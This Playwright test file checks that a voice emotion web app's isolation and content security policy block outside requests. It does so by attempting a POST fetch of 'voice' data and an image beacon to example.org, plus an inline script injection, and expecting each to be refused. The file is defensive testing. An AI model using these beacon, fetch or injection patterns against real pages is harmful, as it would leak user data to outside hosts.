/** The policy holds, and the watch that every other test relies on notices when it is tried. */
import { expect, test } from "./support/app";

test.use({ serviceWorkers: "allow" });

test("the page is isolated and cannot reach another host or run injected code", async ({
  app,
  page,
  offences,
}) => {
  await expect(app.button("Record")).toBeVisible();
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);

  await test.step("fetch", async () => {
    const outcome = await page.evaluate(() =>
      fetch("https://example.org/collect", { method: "POST", body: "voice" }).then(
        () => "sent",
        () => "refused",
      ),
    );
    expect(outcome).toBe("refused");
    await expect.poll(() => offences.join()).toContain("example.org");
  });
  await test.step("image, as a beacon", async () => {
    offences.length = 0;
    await page.evaluate(() => {
      new Image().src = "https://example.org/pixel.png?voice";
    });
    await expect.poll(() => offences.join()).toContain("example.org");
  });
  await test.step("inline script", async () => {
    offences.length = 0;
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "document.title = 'injected'";
      document.head.append(script);
    });
    await expect.poll(() => offences.length).toBeGreaterThan(0);
    await expect(page).toHaveTitle("EmotionThinker: emotion in a voice");
  });
  offences.length = 0; // all of them were ours
});
